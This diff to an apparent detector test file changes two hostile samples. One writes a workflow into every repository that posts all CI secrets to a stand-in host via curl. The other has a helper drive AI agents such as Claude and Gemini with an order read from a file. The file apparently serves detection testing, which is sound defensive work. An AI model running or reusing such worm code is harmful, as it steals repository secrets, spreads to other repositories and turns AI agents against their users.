@@ -77,7 +77,6 @@ export const worms: readonly Question[] = [
   },
   {
     name: 'a workflow that prints all secrets goes into every repository',
-    missed: true,
     hostile: main(`
       import { Octokit } from '@octokit/rest'
       const text = 'on: push\\njobs:\\n  a:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -d "$X" https://hook.invalid/\\n        env:\\n          X: \${{ toJSON(secrets) }}\\n'
@@ -149,7 +148,6 @@ export const worms: readonly Question[] = [
   },
   {
     name: 'an agent is asked through a helper of another file',
-    missed: true,
     hostile: install(
       `const { ask } = require('./run'); const { order } = require('./text.json'); for (const name of ['claude', 'gemini']) ask(name, order)`,
       {
